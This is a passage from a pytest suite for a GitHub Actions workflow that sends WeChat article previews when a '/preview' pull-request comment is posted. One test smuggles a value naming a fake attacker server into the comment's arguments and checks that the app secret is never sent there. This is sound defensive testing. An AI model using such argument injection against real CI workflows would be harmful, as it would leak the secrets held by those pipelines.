    head named correctly, is refused before wxpub is called, so the secret goes nowhere."""
    url, seen = attacker
    seen.clear()
    write_article(repo)
    sha = commit_all(repo, "one article")
    code, output, log, _ = comment_on_pull(tmp_path, f"/preview 张三 {smuggled.format(url=url)} @{sha}", sha)
    assert code == 0, log
    outputs = dict(line.split("=", 1) for line in output.splitlines())
    (tmp_path / "runner" / "articles").write_text(ARTICLE + "\n", encoding="utf-8")
    env = {"PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}", "HOME": str(tmp_path),
           "RUNNER_TEMP": str(tmp_path / "runner"), "HEAD_SHA": outputs["sha"], "TO": outputs["to"],
           "WXPUB_OFFICIAL_APPID": "wxofficialappid", "WXPUB_OFFICIAL_SECRET": SECRET}
    result = subprocess.run(step_command(PREVIEW_WORKFLOW, "Send previews", tmp_path / "runner" / "send.sh"),
                            cwd=repo, env=env, capture_output=True, text=True, timeout=120)
    assert seen == [] and result.returncode != 0, result.stdout + result.stderr
    assert SECRET not in result.stdout + result.stderr


@pytest.mark.parametrize("comment", [f"/preview @{SEEN}", "/preview"])
def test_a_preview_comment_without_names_is_told_to_write_them(tmp_path: Path, comment: str) -> None:
    code, output, log, replies = comment_on_pull(tmp_path, comment)
    assert code != 0 and output == "", log
    ((_, _, reply),) = replies
    assert copy_line(reply) == f"/preview 姓名 @{SEEN}" and "换成接收预览的人" in reply


def test_a_push_while_the_job_reads_a_labelled_pull_request_is_not_what_gets_sent(tmp_path: Path) -> None:
    from tests.testing.fake_github import FakeGitHub

    with FakeGitHub() as github:
        github.set_role("reviewer", "write")
        github.add_pull(7, "editor", SEEN, files=[(ARTICLE + "/index.md", "modified", None)])
        github.after_next("GET", f"/repos/{github.repo}/pulls/7", lambda: github.push(7, PUSHED))
        code, output, log = run_find_step(tmp_path, github.url, preview_token(github), github.repo, EVENT_NAME="pull_request_target",
                                          PR_NUMBER="7", LABELED_SHA=SEEN)
    assert code != 0 and output == "", log


def test_a_comment_that_is_not_the_command_gets_no_reply(tmp_path: Path) -> None:
    code, output, log, replies = comment_on_pull(tmp_path, f"/previews look fine @{SEEN}")
    assert code != 0 and output == "" and replies == [], log
